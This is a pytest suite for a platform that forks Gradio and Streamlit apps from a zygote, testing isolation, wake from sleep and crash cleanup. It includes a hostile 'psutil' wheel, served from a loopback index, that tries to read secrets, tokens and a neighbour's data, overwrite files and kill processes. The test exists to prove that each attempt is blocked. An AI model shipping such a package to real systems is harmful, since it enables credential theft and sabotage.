"""Apps forked from a zygote on the process backend's sandbox: a real `spaces serve` (zygotes are on by default),
real Gradio and Streamlit apps, real clients.

A forked app must not be able to tell it was not exec'd: the probe app reports what an app sees of itself, and a
twin of it that is exec'd (a space variable the SDK could read at import sends its launch to exec) must report
the same shape. Sleeping apps (their own sleep time, set by `spaces settings` and by huggingface_hub) hold no
process and are woken from the zygote by a browser, gradio_client and a Streamlit WebSocket, each served with no
error. The zygote is killed while an app is being forked: nothing of that app stays behind and it runs again.
Last, a package from an index whose module Gradio's import chain imports attacks from inside the zygote (the
store, the runner's secret, a neighbour's code, /data and processes, the data dir, its own environment, the
control API): each attempt fails and the neighbour is intact.
"""

from __future__ import annotations

import functools
import http.server
import importlib.util
import io
import json
import os
import signal
import sqlite3
import sys
import threading
import time
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest
from gradio_client import Client
from polling import wait_until
from prerequisites import missing

from example_checks import check_streamlit_script_runs
from spaces_harness import Platform, gradio_readme, write_app
from spaces_runtime.sandbox.launcher import slug
from spaces_runtime.sandbox.processes import find_app
from spaces_runtime.supervisor.labels import platform_id

pytestmark = [pytest.mark.slow, pytest.mark.timeout(900)]
UID_BASE = 200_000_000

PROBE = '''
import json, os, pathlib, random, signal, sys
import numpy
import gradio as gr

def facts(_: str) -> str:
    status = dict(line.split(":", 1) for line in pathlib.Path("/proc/self/status").read_text().splitlines())
    caps = {k: status[k].strip() for k in ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb", "NoNewPrivs", "Seccomp",
                                           "Seccomp_filters")}
    signals = {s.name: str(signal.getsignal(s)) for s in (signal.SIGINT, signal.SIGTERM, signal.SIGPIPE,
                                                           signal.SIGCHLD, signal.SIGHUP)}
    return json.dumps({
        "file": __file__, "main_file": sys.modules["__main__"].__file__, "name": __name__, "argv": sys.argv,
        "orig_argv_tail": sys.orig_argv[1:], "path0": sys.path[0], "cwd": os.getcwd(), "env": sorted(os.environ),
        "pid": os.getpid(), "ppid": os.getppid(), "uid": os.getuid(), "gid": os.getgid(), "groups": os.getgroups(),
        "pidns": os.readlink("/proc/self/ns/pid"), "procs": sorted(int(p) for p in os.listdir("/proc") if p.isdigit()),
        "hostname": os.uname().nodename, "caps": caps, "signals": signals,
        "cgroup": pathlib.Path("/proc/self/cgroup").read_text(),
        "mounts": sorted({line.split()[4] for line in open("/proc/self/mountinfo")} - {"/proc/sys"}),
        "random": random.random(), "numpy_random": float(numpy.random.random()),
        "zygote_modules": [m for m in sys.modules if "zygote" in m or m.startswith("spaces_runtime")],
    })

demo = gr.Interface(facts, "text", "text", api_name="facts")
demo.launch()
'''
STREAMLIT = '''---
title: Sleepy Streamlit
sdk: streamlit
sdk_version: 1.67.0
app_file: app.py
---
'''
STREAMLIT_APP = "import streamlit as st\nst.title('awake and well')\n"


@pytest.fixture(scope="module")
def platform(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Platform]:
    root = tmp_path_factory.mktemp("zygote")
    server = Platform(root / "data", env={"SPACES_RUNNER_ENABLED": "false"})  # zygotes are on by default
    (root / "data").mkdir()
    (root / "data" / "runner.secret").write_text("a runner secret no zygote may read")
    server.start()
    try:
        probe = write_app(root / "probe", {"README.md": gradio_readme("Probe"), "app.py": PROBE})
        for name in ("alice/probe", "alice/probe2", "alice/twin"):
            server.cli("deploy", str(probe), "--name", name, check=True)
        server.cli("variables", "set", "alice/twin", "HF_EXEC_TWIN", "1", check=True)  # restarts it, exec'd
        wait_until(lambda: "starting it with exec" in _run_log(server, "alice/twin"), 120, "the twin exec'd")
        server.wait_for("alice/twin")
        folder = write_app(root / "st", {"README.md": STREAMLIT, "app.py": STREAMLIT_APP})
        server.cli("deploy", str(folder), "--name", "alice/st", check=True)
        yield server
    finally:
        server.stop()


def _run_log(platform: Platform, space: str) -> str:
    return platform.cli("logs", space).stdout


def _facts(platform: Platform, space: str) -> dict[str, Any]:
    answer = Client(f"{platform.url}/spaces/{space}/", verbose=False).predict("x", api_name="/facts")
    return json.loads(str(answer))  # type: ignore[no-any-return]


def test_a_forked_app_sees_itself_as_an_exec_d_one_does(platform: Platform) -> None:
    assert "forked from the gradio zygote" in _run_log(platform, "alice/probe")
    assert "zygote: the space sets HF_EXEC_TWIN" in _run_log(platform, "alice/twin")
    forked, other, execd = (_facts(platform, s) for s in ("alice/probe", "alice/probe2", "alice/twin"))
    execd["env"].remove("HF_EXEC_TWIN")
    same = ("file", "main_file", "name", "argv", "orig_argv_tail", "path0", "cwd", "env", "pid", "ppid", "groups",
            "procs", "hostname", "caps", "signals", "cgroup", "mounts", "zygote_modules")
    assert {k: forked[k] for k in same} == {k: execd[k] for k in same}
    assert forked["file"] == "/home/user/app/app.py" and forked["argv"] == ["app.py"] and forked["pid"] == 2
    assert forked["zygote_modules"] == []
    # each space its own unprivileged uid and PID namespace, as exec'd
    uids = {forked["uid"], other["uid"], execd["uid"]}
    assert len(uids) == 3 and min(uids) >= UID_BASE and forked["uid"] == forked["gid"]
    host_pidns = os.readlink("/proc/self/ns/pid")
    assert len({forked["pidns"], other["pidns"], execd["pidns"], host_pidns}) == 4
    # fresh random state in every fork: Python's and numpy's (which the SDK imported in the zygote)
    assert forked["random"] != other["random"] and forked["numpy_random"] != other["numpy_random"]


def _put_to_sleep(platform: Platform, space: str, hub: bool = False) -> None:
    """Its own sleep time of 2 s, then never once asleep (so a wake is not undone by the next idle second)."""
    if hub:
        from huggingface_hub import HfApi

        api = HfApi(endpoint=platform.url, token=platform.token)
        api.set_space_sleep_time(space, sleep_time=2)
    else:
        platform.cli("settings", space, "--sleep-time", "2", check=True)
    wait_until(lambda: platform.space(space)["stage"] == "SLEEPING", 120, f"{space} asleep")
    assert not _app_processes(platform, space), "a sleeping app holds no process"
    platform.cli("settings", space, "--sleep-time", "-1", check=True)


def _app_processes(platform: Platform, space: str) -> list[int]:
    """The host pids in the space's instance cgroups (by name: uids are only unique within one platform)."""
    marker = f"/sbx{platform_id(platform.data_dir)[:8]}-{slug(space)}-"
    found = []
    for cgroup in Path("/proc").glob("[0-9]*/cgroup"):
        try:
            if marker in cgroup.read_text():
                found.append(int(cgroup.parent.name))
        except OSError:
            continue
    return found


def test_a_sleeping_app_wakes_for_gradio_client(platform: Platform) -> None:
    _put_to_sleep(platform, "alice/probe2")
    assert _facts(platform, "alice/probe2")["pid"] == 2
    assert platform.space("alice/probe2")["stage"] == "RUNNING"
    assert "forked from the gradio zygote" in _run_log(platform, "alice/probe2").rsplit("=====", 1)[-1]


def test_a_sleeping_app_wakes_for_a_streamlit_websocket(platform: Platform) -> None:
    platform.wait_for("alice/st")
    _put_to_sleep(platform, "alice/st", hub=True)
    check_streamlit_script_runs(f"{platform.url}/spaces/alice/st/")
    assert "forked from the streamlit zygote" in _run_log(platform, "alice/st").rsplit("=====", 1)[-1]


def test_a_sleeping_app_wakes_for_a_browser_visit(platform: Platform) -> None:
    if not Path("/usr/bin/chromium").exists() or importlib.util.find_spec("playwright") is None:
        missing("Chromium (apt-get install chromium) and Playwright (pip install playwright) are needed")
    _put_to_sleep(platform, "alice/probe")
    seen: dict[str, Any] = {}
    browsing = threading.Thread(target=_visit, args=(f"{platform.url}/spaces/alice/probe/", seen))
    browsing.start()  # Playwright's sync API in a thread of its own: its loop must not stay in the main thread
    browsing.join(300)
    assert seen.get("error") is None, seen.get("error")
    assert seen["answered"], seen
    assert seen["server_errors"] == [], seen["server_errors"]
    assert platform.space("alice/probe")["stage"] == "RUNNING"


def _visit(url: str, seen: dict[str, Any]) -> None:
    shown: list[str] = []  # every response, in order: what the page went through, if it fails
    try:
        sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "browser"))  # the browser tests' helpers
        from browsing import CHROMIUM, CHROMIUM_ARGS
        from playwright.sync_api import sync_playwright

        with sync_playwright() as pw:
            browser = pw.chromium.launch(executable_path=str(CHROMIUM), args=CHROMIUM_ARGS, headless=True)
            page = browser.new_page()
            errors: list[str] = []
            page.on("response", lambda r: errors.append(f"{r.status} {r.url}") if _server_error(r) else None)
            page.on("response", lambda r: shown.append(f"{time.strftime('%H:%M:%S')} {r.status} {r.url}"))
            page.on("requestfailed", lambda r: shown.append(f"{time.strftime('%H:%M:%S')} failed {r.url}: "
                                                            f"{r.failure}"))
            try:
                page.goto(url)
                _click_submit(page, shown)
                page.locator("textarea").last.wait_for()
                answered = page.wait_for_function(
                    "() => [...document.querySelectorAll('textarea')].some(t => t.value.includes('pidns'))",
                    timeout=60_000)
            except Exception as exc:  # what the page shows, read while it is still open
                seen["error"] = f"{exc!r}; the page: {page.url}: {page.content()[:1500]}; responses: {shown[-40:]}"
                return
            seen.update(answered=bool(answered), server_errors=errors)
            browser.close()
    except Exception as exc:  # reported to the test's thread
        seen["error"] = f"{exc!r}; responses: {shown[-40:]}"


def _click_submit(page: Any, shown: list[str]) -> None:
    """The woken app's Submit button, within 120 s. Chromium aborts what it is loading with ERR_NETWORK_CHANGED
    whenever an interface of its host comes or goes, and a Gradio page that lost a script never renders: on the
    platform's own host that is every app start (a veth), here and in the other suites sharing the machine, which
    a visitor's browser elsewhere never sees. Such a page is loaded again; any other failure is the test's."""
    deadline = time.monotonic() + 120
    since = 0  # where the current load's responses start in ``shown``
    while True:
        left_ms = max(1_000.0, min(30_000.0, (deadline - time.monotonic()) * 1000))
        try:
            page.get_by_role("button", name="Submit").click(timeout=left_ms)
            return
        except Exception:
            if time.monotonic() > deadline:
                raise
        if any("ERR_NETWORK_CHANGED" in line for line in shown[since:]):
            shown.append(f"{time.strftime('%H:%M:%S')} reloaded: the host's network changed under the page")
            since = len(shown)
            page.reload()


def _server_error(response: Any) -> bool:
    """A 5xx other than the platform's own page that reloads until the app is up (503 with Retry-After: what a
    browser gets when a wake takes longer than the gateway holds it)."""
    waiting = response.status == 503 and "retry-after" in response.headers
    return bool(response.status >= 500 and not waiting)


def test_a_zygote_killed_mid_fork_leaves_no_stuck_app(platform: Platform) -> None:
    log_before = _run_log(platform, "alice/probe2")
    zygote = int(log_before.rsplit("forked from the gradio zygote (pid ", 1)[1].split(")", 1)[0])
    old = set(_app_processes(platform, "alice/probe2"))
    httpx.post(f"{platform.url}/api/spaces/alice/probe2/restart", headers=platform.auth, timeout=30)
    wait_until(lambda: _run_log(platform, "alice/probe2").count("forked from") > log_before.count("forked from"),
               120, "the restart's fork")
    os.kill(zygote, signal.SIGKILL)  # the fork is starting the app: Gradio is not serving yet
    wait_until(lambda: "killed with its zygote" in _run_log(platform, "alice/probe2"), 120, "the app's end reported")
    # started again: from a fresh zygote, or exec'd where the launch found the dead one ("zygote: ... died")
    wait_until(lambda: " starting " in _run_log(platform, "alice/probe2").rsplit("killed with its zygote", 1)[1],
               180, "a launch after the zygote died")
    platform.wait_for("alice/probe2", timeout=180)
    assert _facts(platform, "alice/probe2")["pid"] == 2
    left = set(_app_processes(platform, "alice/probe2"))
    assert not (left & old), "a process of the instance the zygote was starting is still there"
    assert not Path(f"/proc/{zygote}").exists()


EVIL = "spaces-runtime-test-zygote-attack"
# what the hostile package does when it is imported: Gradio's import chain tries `import psutil` (and carries
# on without it), so a package that installs a module of that name runs its code in the zygote, at import
EVIL_MODULE = '''
import json, os, signal, socket, sys, types
T = json.loads({targets!r})

def attempt(action):
    try:
        return "SUCCEEDED: " + str(action())[:120]
    except Exception as exc:
        return "blocked: " + type(exc).__name__

def write(path):
    """Into a file that is there on the host (the zygote's own tmpfs may hold any new file it likes)."""
    with open(path, "r+") as f:
        f.write("pwned by the zygote")
    return path

def as_victim(action):
    """In a child that takes the victim's uid (the zygote's user namespace maps it), so the zygote keeps its own."""
    r, w = os.pipe()
    pid = os.fork()
    if pid == 0:
        os.close(r)
        try:
            os.setresgid(T["victim_uid"], T["victim_uid"], T["victim_uid"])
            os.setresuid(T["victim_uid"], T["victim_uid"], T["victim_uid"])
            result = attempt(action)
        except Exception as exc:
            result = "blocked: " + type(exc).__name__
        os.write(w, result.encode())
        os._exit(0)
    os.close(w)
    answer = os.read(r, 4096).decode()
    os.waitpid(pid, 0)
    return answer

report = types.ModuleType("zygote_attack_report")
report.found = {{
    "pid": os.getpid(), "uid": os.getuid(),
    "store": attempt(lambda: open(T["db"], "rb").read(16)),
    "runner_secret": attempt(lambda: open(T["secret"]).read()),
    "secrets_key": attempt(lambda: open(T["secrets_key"], "rb").read()),
    "victim_code": attempt(lambda: open(T["victim_code"]).read()),
    "victim_data": attempt(lambda: open(T["victim_data"]).read()),
    "victim_data_as_victim": as_victim(lambda: open(T["victim_data"]).read()),
    "admin_token": attempt(lambda: open(T["data"] + "/token").read()),
    "write_data_dir": attempt(lambda: write(T["data"] + "/token")),
    "write_victim_data": as_victim(lambda: write(T["victim_data"])),
    "write_own_environment": attempt(lambda: write(os.path.join(os.path.dirname(__file__), "gradio", "__init__.py"))),
    "platform_code": attempt(lambda: os.listdir(T["platform_code"])),
    "platform_environ": attempt(lambda: open("/proc/%d/environ" % T["platform_pid"], "rb").read()),
    "signal_platform": attempt(lambda: os.kill(T["platform_pid"], signal.SIGCONT)),
    "kill_victim": attempt(lambda: os.kill(T["victim_pid"], signal.SIGKILL)),
    "kill_victim_as_victim": as_victim(lambda: os.kill(T["victim_pid"], signal.SIGKILL)),
    "control_api": attempt(lambda: socket.create_connection(("127.0.0.1", T["port"]), timeout=3)),
}}
sys.modules[report.__name__] = report
raise ImportError("no psutil here")  # Gradio goes on as without psutil
'''
ATTACKER = '''
import json, sys
import gradio as gr
found = sys.modules["zygote_attack_report"].found  # what the import did, in the zygote: the fork has its memory
gr.Interface(lambda _: json.dumps(found), "text", "text", api_name="found").launch()
'''


def _evil_wheel(targets: dict[str, object]) -> bytes:
    buffer = io.BytesIO()
    info = f"{EVIL.replace('-', '_')}-1.0.dist-info"
    with zipfile.ZipFile(buffer, "w") as whl:
        whl.writestr("psutil.py", EVIL_MODULE.format(targets=json.dumps(targets)))
        whl.writestr(f"{info}/METADATA", f"Metadata-Version: 2.1\nName: {EVIL}\nVersion: 1.0\n")
        whl.writestr(f"{info}/WHEEL", "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
        whl.writestr(f"{info}/RECORD", "")
    return buffer.getvalue()


@pytest.fixture
def index(tmp_path: Path) -> Iterator[tuple[Path, str]]:
    """A PEP 503 index on loopback: (its folder, its /simple URL)."""
    handler = functools.partial(http.server.SimpleHTTPRequestHandler, directory=str(tmp_path))
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield tmp_path, f"http://127.0.0.1:{server.server_address[1]}/simple"
    finally:
        server.shutdown()


def test_a_hostile_package_imported_by_the_zygote_reaches_nothing_outside_it(
        platform: Platform, index: tuple[Path, str], tmp_path: Path) -> None:
    platform.wait_for("alice/probe")
    victim_pid = _app_pid(platform, "alice/probe")
    victim_uid = _facts(platform, "alice/probe")["uid"]
    victim_data = platform.data_dir / "sandbox" / "data" / slug("alice/probe") / "victim.txt"
    victim_data.write_text("the victim's own data")
    os.chown(victim_data, victim_uid, victim_uid)
    with sqlite3.connect(platform.data_dir / "spaces.db") as db:
        code = Path(db.execute("SELECT code_dir FROM spaces WHERE id = 'alice/probe'").fetchone()[0]) / "app.py"
    assert platform.process is not None
    targets = {"db": str(platform.data_dir / "spaces.db"), "secret": str(platform.data_dir / "runner.secret"),
               "secrets_key": str(platform.data_dir / "keys" / "secrets.key"), "victim_code": str(code),
               "victim_data": str(victim_data), "data": str(platform.data_dir), "victim_uid": victim_uid,
               "victim_pid": victim_pid, "platform_pid": platform.process.pid, "port": platform.port,
               "platform_code": str(Path(__file__).resolve().parents[2] / "spaces_runtime")}
    folder, url = index
    wheel = f"{EVIL.replace('-', '_')}-1.0-py3-none-any.whl"
    (folder / "files").mkdir()
    (folder / "files" / wheel).write_bytes(_evil_wheel(targets))
    (folder / "simple" / EVIL).mkdir(parents=True)
    (folder / "simple" / EVIL / "index.html").write_text(f'<a href="../../files/{wheel}">{wheel}</a>')
    attacker = write_app(tmp_path / "attacker", {"README.md": gradio_readme("Attacker"), "app.py": ATTACKER,
                                                 "requirements.txt": f"--extra-index-url {url}\n{EVIL}==1.0\n"})
    platform.cli("deploy", str(attacker), "--name", "mallory/attacker", check=True)

    assert "forked from the gradio zygote" in _run_log(platform, "mallory/attacker")
    answer = Client(f"{platform.url}/spaces/mallory/attacker/", verbose=False).predict("x", api_name="/found")
    found = json.loads(str(answer))
    assert (found.pop("pid"), found.pop("uid")) == (1, 0), "the package ran in the zygote, as root of its namespace"
    assert {k: v for k, v in found.items() if not v.startswith("blocked")} == {}, found
    # the victim is intact: serving, same process, its /data as it was; nothing landed in the data dir
    assert _facts(platform, "alice/probe")["uid"] == victim_uid and _app_pid(platform, "alice/probe") == victim_pid
    assert victim_data.read_text() == "the victim's own data"
    assert (platform.data_dir / "token").read_text().strip() == platform.token


def _app_pid(platform: Platform, space: str) -> int:
    """The app's host pid, forked (under the zygote's PID namespace) or exec'd (the test before killed the
    zygote, and a launch that found it dead was exec'd)."""
    candidates = _app_processes(platform, space)
    pid = find_app(candidates, nesting=2) or find_app(candidates)
    assert pid is not None, f"{space} has no app process"
    return pid
